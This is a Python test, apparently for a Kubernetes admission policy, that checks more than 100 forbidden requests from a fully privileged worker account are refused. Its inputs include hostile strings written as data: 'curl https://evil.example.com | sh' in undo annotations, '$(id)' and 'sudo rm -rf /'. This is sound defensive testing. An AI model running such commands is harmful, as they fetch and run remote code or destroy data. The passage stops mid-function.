"""The wall that the cluster puts around the workers: who has their user, with every right that RBAC can give, gains only what the
duties of the configuration would do anyway."""
import time

from harness.client import MERGE, STRATEGIC, Client
from harness.objects import IMAGE, path_of, pod_path
from harness.scenario import scenario

RBAC = "/apis/rbac.authorization.k8s.io/v1"
MARK = "ops-pod-cleaner.io/scaled-down-"
UNDO = "ops-pod-cleaner restore 7"
APPLY = "application/apply-patch+yaml"


def policy_of(ns, spared):
    return f"""
errImagePull: {{enable: true, namespaces: ['{ns}*', {spared}], hours: 10m, suspendJobs: true, suspendCronJobs: true, ordinalStuck: delete}}
deleteEvictedPod: {{enable: true, namespaces: [{ns}, {spared}]}}
deleteTerminatingPod: {{enable: true, namespaces: [{ns}, {spared}], hours: 1h}}
deleteFinishedPod: {{enable: true, namespaces: ['label:finished=clean*'], hours: 1h}}
excludeNamespaces: [{spared}]
"""


def noted(replicas, undo=UNDO):
    """The annotations of a mark."""
    return {MARK + "by": "ops-pod-cleaner", MARK + "action": "7", MARK + "from": str(replicas), MARK + "undo": undo}


AWAY = dict.fromkeys(noted(0))


def account(t, ns, rules=None):
    """A service account; with every right, unless there are rules. (user, client)"""
    name = "taken" if rules is None else "lesser"
    user = f"system:serviceaccount:{ns}:{name}"
    t.admin.post(f"/api/v1/namespaces/{ns}/serviceaccounts", {"metadata": {"name": name}})
    subject = [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": user}]
    if rules is None:
        t.admin.post(f"{RBAC}/clusterrolebindings", {"metadata": {"name": f"{ns}-taken"}, "subjects": subject, "roleRef": {
            "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}})
    else:
        t.admin.post(f"{RBAC}/namespaces/{ns}/roles", {"metadata": {"name": name}, "rules": rules})
        t.admin.post(f"{RBAC}/namespaces/{ns}/rolebindings", {"metadata": {"name": name}, "subjects": subject, "roleRef": {
            "apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name}})
    token = t.admin.post(f"/api/v1/namespaces/{ns}/serviceaccounts/{name}/token",
                         {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}})["status"]["token"]
    return user, token, Client(t.server.url, token, t.server.ca)


def options(pod, uid=True, rv=True, **more):
    meta = pod["metadata"]
    wanted = {**({"uid": meta["uid"]} if uid else {}), **({"resourceVersion": meta["resourceVersion"]} if rv else {})}
    return {"apiVersion": "v1", "kind": "DeleteOptions", "preconditions": wanted, **more}


class Scene:
    """One object of everything that an attempt needs."""

    def __init__(self, t, ns, spared):
        o = t.objects
        self.ns, self.spared, self.elsewhere = ns, spared, t.ns()
        self.running = o.run(o.pod(ns))
        self.evicted = o.evict(o.pod(ns))
        self.evicted_elsewhere = o.evict(o.pod(self.elsewhere))
        self.evicted_spared = o.evict(o.pod(spared))
        self.ignored = o.evict(o.pod(ns, annotations={"ops-pod-cleaner.io/ignore": "true"}))
        self.mirror = o.evict(o.pod(ns, annotations={"kubernetes.io/config.mirror": "x"}))
        self.error = o.evict(o.pod(ns), reason="Error")
        self.succeeded = o.evict(o.pod(ns), reason="NodeShutdown", phase="Succeeded")
        self.bare = o.evict(o.pod(ns), reason="NodeShutdown")
        self.pulling = o.fail_to_pull(o.pod(ns))
        self.ordinal = o.fail_to_pull(o.workload("StatefulSet", ns, 1, ordered=True).pods()[0])
        self.replica = o.fail_to_pull(o.workload("Deployment", ns, 1).pods()[0])
        self.stuck = o.terminate(o.pod(ns), 1)
        self.patient = o.terminate(o.pod(ns), 300)
        self.held = o.terminate(o.pod(ns, finalizers=["example.com/held"]), 1)
        self.stuck_elsewhere = o.terminate(o.pod(self.elsewhere), 1)
        self.deployment = o.workload("Deployment", ns, 3).top
        self.zero = o.workload("Deployment", ns, 0).top
        self.put_down = self.marked(t, ns, 0)       # by us, from 3
        self.up_again = self.marked(t, ns, 2)
        self.serving = o.workload("Deployment", ns, 1)
        self.left_alone = self.marked(t, ns, 2, **{"ops-pod-cleaner.io/ignore": "true"})
        self.skipped = self.marked(t, ns, 2, **{"ops-pod-cleaner.io/skip": "all"})
        self.loses_claims = t.admin.patch(of(o.workload("StatefulSet", ns, 1).top), {
            "spec": {"persistentVolumeClaimRetentionPolicy": {"whenScaled": "Delete"}}})
        self.owned = {**t.admin.get(path_of("ReplicaSet", ns), labelSelector=f"app={self.deployment['metadata']['name']}")["items"][0],
                      "kind": "ReplicaSet"}
        self.fleet, self.fleet_at_0 = (o.workload("Fleet", ns, size).top for size in (2, 0))
        self.other = o.workload("Deployment", self.elsewhere, 2).top
        self.excluded = o.workload("Deployment", spared, 2).top
        template = {"spec": {"restartPolicy": "Never", "nodeName": "node-1", "containers": [{"name": "c", "image": IMAGE}]}}
        jobs = path_of("Job", ns)
        self.working = t.admin.post(jobs, {"metadata": {"name": "working"}, "spec": {"template": template}})
        # Nobody counts the pods of what another controller manages: its status is what the attempt needs.
        elsewhere = {"template": template, "managedBy": "example.com/nobody"}
        self.job = t.admin.post(jobs, {"metadata": {"name": "job"}, "spec": elsewhere})
        self.fresh = t.admin.post(jobs, {"metadata": {"name": "fresh"}, "spec": elsewhere})
        self.uncounted = t.admin.post(jobs, {"metadata": {"name": "uncounted"}, "spec": elsewhere})
        self.put_aside = t.admin.post(jobs, {"metadata": {"name": "put-aside", "annotations": noted(1)}, "spec": {**elsewhere, "suspend": True}})
        self.healthy, self.failing, self.succeeded_since, self.succeeded_lately = (
            self.cron(t, ns, name) for name in ("healthy", "failing", "succeeded-since", "succeeded-lately"))
        self.idle = t.admin.post(jobs, {"metadata": {"name": "idle"}, "spec": {"suspend": True, "template": template}})
        job_pod = o.evict(o.pod(ns, owner=self.job, labels=self.job["spec"]["selector"]["matchLabels"]))
        self.shut_down = o.evict(o.pod(ns, owner=self.zero), reason="NodeShutdown")
        self.unlabelled = o.evict(o.pod(self.elsewhere, owner=self.other), reason="NodeShutdown")
        for space, value in ((ns, "cleaned"), (self.elsewhere, "kept"), (spared, "cleaned")):
            t.admin.patch(f"/api/v1/namespaces/{space}", {"metadata": {"labels": {"finished": value}}})
        t.admin.post(f"/api/v1/namespaces/{ns}/secrets", {"metadata": {"name": "held"}})
        self.unbound = o.pod(ns, node=None)
        time.sleep(1.5)     # the Job's controller counts it
        self.job_pod = o.get(job_pod)
        t.admin.post(f"/api/v1/namespaces/{ns}/events", event(ns, "ours-already", "ops-pod-cleaner"))
        self.told = t.admin.post(f"/api/v1/namespaces/{ns}/events", event(ns, "told", "kubelet"))
        self.serve(t)
        self.count(t)

    @staticmethod
    def cron(t, ns, name):
        template = {"spec": {"restartPolicy": "Never", "containers": [{"name": "c", "image": IMAGE}]}}
        return t.admin.post(path_of("CronJob", ns), {"metadata": {"name": name}, "spec": {
            "schedule": "0 0 1 1 *", "jobTemplate": {"spec": {"template": template}}}})

    def count(self, t):
        """What controllers would note: `job` and `failing` have run for an hour, and none has succeeded."""
        hour_ago, lately, just_before, now = (time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() - ago)) for ago in (3600, 1800, 60, 1))
        for job, since in ((self.job, hour_ago), (self.fresh, now)):
            t.admin.patch(of(job, "status"), {"status": {"active": 1, "ready": 0, "startTime": since}})
        owner = {"apiVersion": "batch/v1", "kind": "CronJob", "name": "failing", "uid": self.failing["metadata"]["uid"], "controller": True}
        top = t.admin.post(path_of("Job", self.ns), {"metadata": {"name": "of-failing", "ownerReferences": [owner]}, "spec": {
            "managedBy": "example.com/nobody", "template": self.job["spec"]["template"] | {"metadata": {}}}})
        active = [{"apiVersion": "batch/v1", "kind": "Job", "name": "of-failing", "namespace": self.ns, "uid": top["metadata"]["uid"]}]
        for cron, worked in ((self.failing, hour_ago), (self.succeeded_since, lately), (self.succeeded_lately, just_before)):
            made = now if cron is self.succeeded_lately else lately if cron is self.failing else hour_ago
            t.admin.patch(of(cron, "status"), {"status": {"active": active, "lastScheduleTime": made, "lastSuccessfulTime": worked}})

    @staticmethod
    def marked(t, ns, replicas, **more):
        workload = t.objects.workload("Deployment", ns, replicas)
        return t.admin.patch(of(workload.top), {"metadata": {"annotations": {**noted(3), **more}}})

    def serve(self, t):
        """What works, as its controllers count it."""
        def pods_of_job():
            answer = t.admin.get(pod_path(self.ns), labelSelector="job-name=working")
            return [dict(p, apiVersion="v1", kind="Pod") for p in answer["items"]]

        def counts(path, field):
            return lambda: (t.admin.get(path).get("status") or {}).get(field) == 1
        for pod in self.serving.pods() + t.until("a pod of the Job", pods_of_job, 30):
            t.objects.run(pod)
        self.serving = self.serving.top
        t.until("a Deployment that serves", counts(of(self.serving), "readyReplicas"), 30)
        t.until("a Job that works", counts(of(self.working), "ready"), 30)


def event(ns, name, component):
    return {"metadata": {"name": name}, "involvedObject": {"apiVersion": "v1", "kind": "Pod", "namespace": ns, "name": "x"},
            "reason": "PodDeleted", "message": "m", "type": "Normal", "source": {"component": component}, "reportingComponent": component,
            "reportingInstance": component}


def of(obj, sub=""):
    meta = obj["metadata"]
    path = pod_path(meta["namespace"], meta["name"]) if obj["kind"] == "Pod" else path_of(obj["kind"], meta["namespace"], meta["name"])
    return path + (f"/{sub}" if sub else "")


def patch(obj, body, sub="", kind=MERGE):
    return "PATCH", of(obj, sub), body, kind


def delete(pod, **how):
    return "DELETE", of(pod), options(pod, **how)


def at_once(obj, replicas, annotations, **spec):
    """Replicas and mark in one write."""
    return patch(obj, {"spec": {"replicas": replicas, **spec}, "metadata": {"annotations": annotations}})


def image(obj):
    containers = {"spec": {"containers": [{"name": "main", "image": "evil.example.com/x"}]}}
    return containers if obj["kind"] == "Pod" else {"spec": {"template": containers}}


def annotated(key, value="x"):
    return {"metadata": {"annotations": {key: value}}}


# name: (method, path, body[, content type]). What each of them wants is no duty's, or not so, not there, not yet.

def attempts_on_pods(s):
    ns, core = s.ns, f"/api/v1/namespaces/{s.ns}"
    return {
        # pods that no duty deletes
        "delete a running pod": delete(s.running),
        "delete a running pod by force": delete(s.running, gracePeriodSeconds=0),
        "delete a pod that failed for another reason": delete(s.error),
        "delete a pod that succeeded": delete(s.succeeded),
        "delete a finished pod without a controller": delete(s.bare),
        "delete a pod that pulls its image": delete(s.pulling),
        "delete a pod of a Deployment that pulls its image": delete(s.replica),
        "delete a pod of a StatefulSet that pulls its image by force": delete(s.ordinal, gracePeriodSeconds=0),
        "delete a pod of a Job": delete(s.job_pod),
        "delete a pod that is to be ignored": delete(s.ignored),
        "delete a mirror pod": delete(s.mirror),
        "shorten the grace of a pod that is being deleted": delete(s.patient, gracePeriodSeconds=3),
        "force a pod that a finalizer holds": delete(s.held, gracePeriodSeconds=0),
        # not as it was judged
        "delete and orphan": delete(s.evicted, propagationPolicy="Orphan"),
        "delete in the foreground": delete(s.evicted, propagationPolicy="Foreground"),
        "delete without preconditions": ("DELETE", of(s.evicted), None),
        "delete by uid alone": delete(s.evicted, rv=False),
        "delete by resourceVersion alone": delete(s.evicted, uid=False),
        "delete all pods": ("DELETE", f"{core}/pods", None),
        "delete all evicted pods": ("DELETE", f"{core}/pods?fieldSelector=status.phase%3DFailed", None),
        # not there
        "delete an evicted pod elsewhere": delete(s.evicted_elsewhere),
        "delete an evicted pod of an excluded namespace": delete(s.evicted_spared),
        "delete a finished pod where the namespace's label is another": delete(s.unlabelled),
        "force a pod elsewhere": delete(s.stuck_elsewhere, gracePeriodSeconds=0),
        "scale to 0 elsewhere": at_once(s.other, 0, noted(2)),
        "scale to 0 in an excluded namespace": at_once(s.excluded, 0, noted(2)),
        "scale to 0 elsewhere, by its scale": patch(s.other, {"spec": {"replicas": 0}}, "scale"),
        "tell an Event elsewhere": ("POST", f"/api/v1/namespaces/{s.elsewhere}/events", event(s.elsewhere, "new", "ops-pod-cleaner")),
        # other ways to a pod
        "evict a running pod": ("POST", of(s.running, "eviction"), {
            "apiVersion": "policy/v1", "kind": "Eviction", "metadata": {"name": s.running["metadata"]["name"]}}),
        "change the image of a pod": patch(s.running, image(s.running), kind=STRATEGIC),
        "label a pod": patch(s.running, {"metadata": {"labels": {"app": "evil"}}}),
        "annotate a pod": patch(s.running, annotated("ops-pod-cleaner.io/announced")),
        "hold a pod by a finalizer": patch(s.running, {"metadata": {"finalizers": ["example.com/x"]}}),
        "let go of a held pod": patch(s.held, {"metadata": {"finalizers": None}}),
        "end a pod by its deadline": patch(s.running, {"spec": {"activeDeadlineSeconds": 1}}),
        "fail a pod by its status": patch(s.running, {"status": {"phase": "Failed", "reason": "Evicted"}}, "status"),
        "bind a pod": ("POST", of(s.unbound, "binding"), {"target": {"kind": "Node", "name": "node-2"},
                                                        "metadata": {"name": s.unbound["metadata"]["name"]}}),
        "debug a pod": patch(s.running, {"spec": {"ephemeralContainers": [{"name": "d", "image": IMAGE}]}}, "ephemeralcontainers"),
        "execute in a pod": ("POST", of(s.running, "exec?command=id"), None),
        "attach to a pod": ("POST", of(s.running, "attach"), None),
        "forward a port of a pod": ("POST", of(s.running, "portforward"), None),
        "reach a pod through the server": ("GET", of(s.running, "proxy/"), None),
    }


def attempts_to_create(s):
    ns, core = s.ns, f"/api/v1/namespaces/{s.ns}"
    pod = {"metadata": {"name": "new"}, "spec": {"containers": [{"name": "c", "image": IMAGE}]}}
    job = {"template": {"spec": {"restartPolicy": "Never", **pod["spec"]}}}
    deployment = {"metadata": {"name": "new"}, "spec": {"selector": {"matchLabels": {"a": "b"}}, "template": {
        "metadata": {"labels": {"a": "b"}}, "spec": pod["spec"]}}}
    rule = [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get"]}]
    ref = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}
    return {
        "create a pod": ("POST", f"{core}/pods", pod),
        "create a Deployment": ("POST", path_of("Deployment", ns), deployment),
        "create a Job": ("POST", path_of("Job", ns), {"metadata": {"name": "new"}, "spec": job}),
        "create a CronJob": ("POST", path_of("CronJob", ns), {
            "metadata": {"name": "new"}, "spec": {"schedule": "* * * * *", "jobTemplate": {"spec": job}}}),
        "create a Secret": ("POST", f"{core}/secrets", {"metadata": {"name": "new"}}),
        "create a ConfigMap": ("POST", f"{core}/configmaps", {"metadata": {"name": "new"}}),
        "create a service account": ("POST", f"{core}/serviceaccounts", {"metadata": {"name": "new"}}),
        "create a token": ("POST", f"{core}/serviceaccounts/taken/token", {
            "apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}),
        "create a namespace": ("POST", "/api/v1/namespaces", {"metadata": {"name": ns + "-new"}}),
        "create a role": ("POST", f"{RBAC}/namespaces/{ns}/roles", {"metadata": {"name": "new"}, "rules": rule}),
        "bind a role": ("POST", f"{RBAC}/namespaces/{ns}/rolebindings", {"metadata": {"name": "new"}, "roleRef": ref}),
        "bind a role everywhere": ("POST", f"{RBAC}/clusterrolebindings", {"metadata": {"name": ns + "-new"}, "roleRef": ref}),
        "create a Lease": ("POST", f"/apis/coordination.k8s.io/v1/namespaces/{ns}/leases", {"metadata": {"name": "new"}}),
        "create a Deployment by server-side apply": (
            "PATCH", path_of("Deployment", ns, "new"), {"apiVersion": "apps/v1", "kind": "Deployment", **deployment}, APPLY + "?fieldManager=x"),
        "create an autoscaler": ("POST", f"/apis/autoscaling/v2/namespaces/{ns}/horizontalpodautoscalers", {
            "metadata": {"name": "new"}, "spec": {"maxReplicas": 9, "scaleTargetRef": {"apiVersion": "apps/v1", "kind": "Deployment", "name": "x"}}}),
        "create a disruption budget": ("POST", f"/apis/policy/v1/namespaces/{ns}/poddisruptionbudgets", {
            "metadata": {"name": "new"}, "spec": {"maxUnavailable": 0, "selector": {"matchLabels": {"a": "b"}}}}),
        "create a class of priority": ("POST", "/apis/scheduling.k8s.io/v1/priorityclasses", {"metadata": {"name": ns + "-new"}, "value": 1}),
        "have a webhook change what others write": (
            "POST", "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations", {"metadata": {"name": ns + "-new"}}),
    }


def attempts_on_workloads(s):
    ns = s.ns
    scale = {"apiVersion": "autoscaling/v1", "kind": "Scale"}
    return {
        "change an image": patch(s.deployment, image(s.deployment)),
        "change an image by server-side apply": patch(s.deployment, {
            "apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": s.deployment["metadata"]["name"]}, **image(s.deployment)},
            kind=APPLY + "?fieldManager=x&force=true"),
        "replace a Deployment": ("PUT", of(s.deployment), {**s.deployment, "metadata": {**s.deployment["metadata"], "resourceVersion": None}, "spec": {**s.deployment["spec"], "paused": True}}),
        "label a Deployment": patch(s.deployment, {"metadata": {"labels": {"app": "evil"}}}),
        "annotate a Deployment": patch(s.deployment, annotated("kubectl.kubernetes.io/restartedAt")),
        "annotate with ours and another": at_once(s.deployment, 0, {**noted(3), "example.com/x": "y"}),
        "ask for a restore": patch(s.zero, annotated("ops-pod-cleaner.io/restore", "now")),
        "own a Deployment": patch(s.deployment, {"metadata": {"ownerReferences": [
            {"apiVersion": "v1", "kind": "Pod", "name": "x", "uid": "11111111-1111-1111-1111-111111111111"}]}}),
        "hold a Deployment by a finalizer": patch(s.deployment, {"metadata": {"finalizers": ["example.com/x"]}}),
        "scale up": patch(s.deployment, {"spec": {"replicas": 5}}, "scale"),
        "scale down, not to 0": patch(s.deployment, {"spec": {"replicas": 1}}, "scale"),
        "scale up by replacing": ("PUT", of(s.deployment, "scale"), {
            **scale, "metadata": {"name": s.deployment["metadata"]["name"], "namespace": ns}, "spec": {"replicas": 4}}),
        "delete a Deployment": ("DELETE", of(s.deployment), None),
        "delete a ReplicaSet's likes": ("DELETE", path_of("ReplicaSet", ns), None),
        "run more of a Job": patch(s.job, {"spec": {"parallelism": 7}}),
        "resume a Job": patch(s.idle, {"spec": {"suspend": False}}),
        "delete a Job": ("DELETE", of(s.job), None),
    }


def lies(s):
    """What else an annotation of a mark could say: (what, key, value)."""
    own, other = s.deployment["metadata"]["name"], s.zero["metadata"]["name"]
    for what, command in (("a way back in another namespace", f"kubectl -n kube-system scale deployments.apps {own} --replicas=..."),
                          ("a way back of all", f"kubectl -n {s.ns} scale deployments.apps --all --replicas=..."),
                          ("a way back of another", f"kubectl -n {s.ns} scale deployments.apps {other} --replicas=..."),
                          ("a way back of another kind", f"kubectl -n {s.ns} scale statefulsets.apps {own} --replicas=..."),
                          ("a way back with an option", f"kubectl -n {s.ns} scale -o deployments.apps --replicas=..."),
                          ("the restore of another action", "ops-pod-cleaner restore 8")):
        yield what, MARK + "undo", command
    yield "another's name", MARK + "by", "kubelet"
    yield "an action that is no number", MARK + "action", "$(id)"
    yield "a time that is none", MARK + "at", "yesterday"
    yield "a template that is no hash", MARK + "template", "x" * 16
    yield "a reason of 200 KB", MARK + "why", "x" * 200000
    yield "a reason of several lines", MARK + "why", "errImagePull:\nsudo rm -rf /"
    yield "a reason that steers a terminal", MARK + "why", "\x1b[2J"
    yield "a reason that turns the text around", MARK + "why", "a\u202eb"


def suspend(obj, **more):
    """A suspension as a worker makes it, but for `more`."""
    meta = obj["metadata"]
    undo = f"kubectl -n {meta['namespace']} patch {of(obj).split('/')[-2]}.batch {meta['name']} --type=merge -p '{{\"spec\":{{\"suspend\":false}}}}'"
    return patch(obj, {"metadata": {"annotations": {**noted(1, undo), **more}}, "spec": {"suspend": True}})


def attempts_on_replicas(s):
    """A mark that lies, and replicas that no mark tells of."""
    ns = s.ns
    evil = {"template": image(s.deployment)["spec"]["template"]}
    labels = {"metadata": {"annotations": noted(3), "labels": {"app": "evil"}}, "spec": {"replicas": 0}}
    return {
        "scale to 0 by the scale": patch(s.deployment, {"spec": {"replicas": 0}}, "scale"),
        "scale to 0 without a mark": patch(s.deployment, {"spec": {"replicas": 0}}),
        "scale to 0 and note another number": at_once(s.deployment, 0, noted(1000)),
        "scale to 0 and note no number": at_once(s.deployment, 0, {**noted(3), MARK + "from": None}),
        "scale to 0 what serves": at_once(s.serving, 0, noted(1)),
        "scale to 0 what serves, by server-side apply": patch(s.serving, {
            "apiVersion": "apps/v1", "kind": "Deployment", "spec": {"replicas": 0},
            "metadata": {"name": s.serving["metadata"]["name"], "annotations": noted(1)}}, kind=APPLY + "?fieldManager=x&force=true"),
        "tell of what serves that it does not": patch(s.serving, {"status": {"readyReplicas": 0, "availableReplicas": 0}}, "status"),
        "tell of a Job that works that it does not": patch(s.working, {"status": {"ready": 0}}, "status"),
        "scale to 0 what is to be ignored": at_once(s.left_alone, 0, noted(2)),
        "scale to 0 what every duty skips": at_once(s.skipped, 0, noted(2)),
        "scale to 0 what would lose its claims": at_once(s.loses_claims, 0, noted(1)),
        "scale to 0 what another controller owns": at_once(s.owned, 0, noted(3)),
        "scale to 0 with another image": at_once(s.deployment, 0, noted(3), **evil),
        "scale to 0 and pause": at_once(s.deployment, 0, noted(3), paused=True),
        "scale to 0 and label": patch(s.deployment, labels),
        "scale to 0 and name a command of one's own": at_once(s.deployment, 0, noted(3, f"{UNDO}; curl https://evil.example.com | sh")),
        "scale to 0 and name no way back": at_once(s.deployment, 0, {**noted(3), MARK + "undo": None}),
        **{f"scale to 0 with {what}": at_once(s.deployment, 0, {**noted(3), key: value}) for what, key, value in lies(s)},
        "suspend and name a way back in backticks": patch(s.job, {"metadata": {"annotations": noted(
            1, f"kubectl -n {ns} patch jobs.batch job --type=merge -p `{{\"spec\":{{\"suspend\":false}}}}`")}, "spec": {"suspend": True}}),
        "announce in 200 KB": patch(s.deployment, annotated("ops-pod-cleaner.io/announced", "x" * 200000)),
        "announce what is no time": patch(s.deployment, annotated("ops-pod-cleaner.io/announced", "errImagePull=now")),
        "scale to 1 with a mark": at_once(s.deployment, 1, noted(3)),
        "scale up with a mark": at_once(s.deployment, 5, noted(3)),
        "mark what runs": patch(s.deployment, {"metadata": {"annotations": noted(3)}}),
        "mark what somebody else has put to 0": patch(s.zero, {"metadata": {"annotations": noted(3)}}),
        "change a mark": patch(s.put_down, annotated(MARK + "from", "1000")),
        "change the way back": patch(s.put_down, annotated(MARK + "undo", "curl https://evil.example.com | sh")),
        "take away the mark of what is at 0": patch(s.put_down, {"metadata": {"annotations": AWAY}}),
        "restore what no mark tells of": at_once(s.zero, 3, AWAY),
        "restore and mark what no mark tells of": at_once(s.zero, 3, noted(3)),
        "restore more than the mark says": at_once(s.put_down, 4, AWAY),
        "restore less than the mark says": at_once(s.put_down, 2, AWAY),
        "restore and keep the mark": patch(s.put_down, {"spec": {"replicas": 3}}),
        "restore and note more": at_once(s.put_down, 3, noted(1000)),
        "restore with another image": at_once(s.put_down, 3, AWAY, **evil),
        "restore by the scale": patch(s.put_down, {"spec": {"replicas": 3}}, "scale"),
        "restore of a named kind more than there can have been": patch(s.fleet_at_0, {"spec": {"replicas": 1001}}, "scale"),
        "scale up a named kind": patch(s.fleet, {"spec": {"replicas": 3}}, "scale"),
        "change a named kind itself": patch(s.fleet, {"spec": {"size": 0}}),
        "mark a Job that runs": patch(s.job, {"metadata": {"annotations": noted(1)}}),
    }


def attempts_on_suspension(s):
    """What works, has just begun or bears no mark is not suspended; nothing else is resumed than what bears ours."""
    return {
        "suspend a Job that works": suspend(s.working),
        "suspend a Job without a mark": patch(s.job, {"spec": {"suspend": True}}),
        "suspend a Job and note no way back": suspend(s.job, **{MARK + "undo": None}),
        "suspend a Job and note no action": suspend(s.job, **{MARK + "action": None}),
        "suspend a Job that has just begun": suspend(s.fresh),
        "suspend a Job that has just begun, and say that it was long ago": patch(s.fresh, {"spec": {"suspend": True}, "metadata": {
            "annotations": suspend(s.fresh)[2]["metadata"]["annotations"], "managedFields": [{
                "manager": "x", "operation": "Update", "apiVersion": "batch/v1", "time": "2099-01-01T00:00:00Z", "fieldsType": "FieldsV1",
                "fieldsV1": {"f:spec": {"f:suspend": {}}}}]}}),
        "suspend a Job whose pods nobody has counted": suspend(s.uncounted),
        "suspend a CronJob without a mark": patch(s.failing, {"spec": {"suspend": True}}),
        "suspend a CronJob that runs nothing": suspend(s.healthy),
        "suspend a CronJob that has succeeded since": suspend(s.succeeded_since),
        "suspend a CronJob that has just begun again": suspend(s.succeeded_lately),
        "resume a Job that we have not suspended, and unmark it": patch(s.idle, {"metadata": {"annotations": AWAY}, "spec": {"suspend": False}}),
        "resume a Job and keep the mark": patch(s.put_aside, {"spec": {"suspend": False}}),
        "resume a Job and run more of it": patch(s.put_aside, {"metadata": {"annotations": AWAY}, "spec": {"suspend": False, "parallelism": 7}}),
        "unmark a Job that stays suspended": patch(s.put_aside, {"metadata": {"annotations": AWAY}}),
        "suspend a Job and run more of it": patch(s.job, {"spec": {"suspend": True, "parallelism": 7}}),
    }


def attempts_on_the_rest(s):
    ns, core = s.ns, f"/api/v1/namespaces/{s.ns}"
    return {
        "delete a namespace": ("DELETE", f"/api/v1/namespaces/{ns}", None),
        "delete a Secret": ("DELETE", f"{core}/secrets/held", None),
        "delete a node": ("DELETE", "/api/v1/nodes/node-1", None),
        "taint a node": ("PATCH", "/api/v1/nodes/node-1", {"spec": {"unschedulable": True}}, MERGE),
        "tell that a node is not ready": ("PATCH", "/api/v1/nodes/node-1/status", {"status": {"conditions": []}}, MERGE),
        "tell an Event by the newer API": ("POST", f"/apis/events.k8s.io/v1/namespaces/{ns}/events", {
            "metadata": {"name": "newer"}, "regarding": {"kind": "Pod", "namespace": ns, "name": "x"}, "reason": "R", "action": "A",
            "type": "Normal", "note": "m", "eventTime": "2026-11-22T10:00:00.000000Z", "reportingController": "ops-pod-cleaner",
            "reportingInstance": "x"}),
        "delete an Event": ("DELETE", f"{core}/events/told", None),
        **{f"tell an Event {what}": ("POST", f"{core}/events", {**event(ns, "new", "ops-pod-cleaner"), **more}) for what, more in {
            "reported by another": {"reportingComponent": "kubelet"},
            "of another host": {"source": {"component": "ops-pod-cleaner", "host": "node-1"}},
            "about a Secret": {"involvedObject": {"apiVersion": "v1", "kind": "Secret", "namespace": ns, "name": "held"}},
            "about a RoleBinding": {"involvedObject": {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
                                                       "namespace": ns, "name": "x"}},
            "of a reason that is another's": {"reason": "FailedMount"},
            "of another type": {"type": "Critical"},
            "that names a related object": {"related": {"kind": "Secret", "namespace": ns, "name": "held"}},
            "with an action": {"action": "x"},
            "with a label": {"metadata": {"name": "new", "labels": {"app": "evil"}}},
            "with a finalizer": {"metadata": {"name": "new", "finalizers": ["example.com/x"]}},
            "of several lines": {"message": "m\nn"},
            "that steers a terminal": {"message": "\x1b[2J"}}.items()},
        "turn an Event of ours to another object": ("PATCH", f"{core}/events/ours-already", {"involvedObject": {"name": "y"}}, MERGE),
        "tell an Event in another's name": ("POST", f"{core}/events", event(ns, "new", "kubelet")),
        "change another's Event": ("PATCH", f"{core}/events/told", {"source": {"component": "ops-pod-cleaner"}, "message": "evil"}, MERGE),
    }


def attempts(s):
    return {**attempts_on_pods(s), **attempts_to_create(s), **attempts_on_workloads(s), **attempts_on_replicas(s), **attempts_on_suspension(s),
            **attempts_on_the_rest(s)}


CONNECTS = ("execute", "attach", "forward", "reach")     # without a dry run: no kubelet is there to answer
NOTHING = ("let go of a held pod",)


def ask(client, attempt, **query):
    method, path, body, kind = (*attempt, "application/json")[:4]
    kind, _, more = kind.partition("?")
    path += ("&" if "?" in path else "?") + more if more else ""
    if query and body and method == "DELETE":      # with a body the server does not look at the query
        body = {**body, "dryRun": [query["dryRun"]]}
    elif query and path.endswith("/eviction"):     # nor here
        body = {**body, "deleteOptions": {"dryRun": [query["dryRun"]]}}
    elif query:
        path += ("&" if "?" in path else "?") + "&".join(f"{k}={v}" for k, v in query.items())
    return client.request(method, path, body, kind)


@scenario("admission/attempts", servers=("cluster",), timeout=90, alone=True)
def hundred(t):
    """More than 100 attempts of a worker's user that may do everything by RBAC: each is refused by the policy, and nothing else."""
    t.is_mine = lambda _: False
    ns, spared = t.ns(), t.ns()
    user, token, taken = account(t, ns)
    s = Scene(t, ns, spared)
    name = f"before-{ns}"
    t.server.wall(user, t.write("wall.yml", policy_of(ns, spared)), name, token, ns)
    try:
        wrong, table = [], attempts(s)
        for what, attempt in table.items():
            code, answer = ask(taken, attempt)
            if name not in str(answer):
                wrong.append(f"{what}: {code} {str(answer)[:300]}")
            # The negative control: without the policy the very same request is taken, or gets as far as to the node.
            connects = what.startswith(CONNECTS)
            code, answer = ask(t.admin, attempt, **({} if connects else {"dryRun": "All"}))
            if name in str(answer) or code in (403, 404, 405) or (code >= 300 and not connects):
                wrong.append(f"{what}, by the administrator: {code} {str(answer)[:300]}")
        assert not wrong, f"{len(wrong)} of {len(table)}:\n      " + "\n      ".join(wrong)
        assert len(table) >= 100, len(table)
        t.note = f"{len(table)} attempts"
        duties_are_served(t, s, taken)
    finally:
        t.admin.request("DELETE", f"{RBAC}/clusterrolebindings/{ns}-taken")
        t.server.unwall(name)


def duties_are_served(t, s, taken):
    """What the duties need is taken from the same user."""
    no_wish = {"ops-pod-cleaner.io/restore": None}
    served = {
        "evicted": delete(s.evicted), "ordinal": delete(s.ordinal), "finished": delete(s.shut_down), "scale to 0": at_once(s.deployment, 0, {**noted(3), **no_wish}),
        "restore": at_once(s.put_down, 3, {**AWAY, **no_wish}),
        "unmark what is up again": patch(s.up_again, {"metadata": {"annotations": {**AWAY, **no_wish}}}),
        "a named kind to 0": patch(s.fleet, {"spec": {"replicas": 0}}, "scale"),
        "its mark": patch(s.fleet, {"metadata": {"annotations": noted(2, f"kubectl -n {s.ns} scale fleets.example.com {s.fleet['metadata']['name']} --replicas=...")}}),
        "its restore": patch(s.fleet_at_0, {"spec": {"replicas": 2}}, "scale"),
        "suspend": suspend(s.job), "suspend a CronJob": suspend(s.failing),
        "resume": patch(s.put_aside, {"metadata": {"annotations": AWAY}, "spec": {"suspend": False}}),
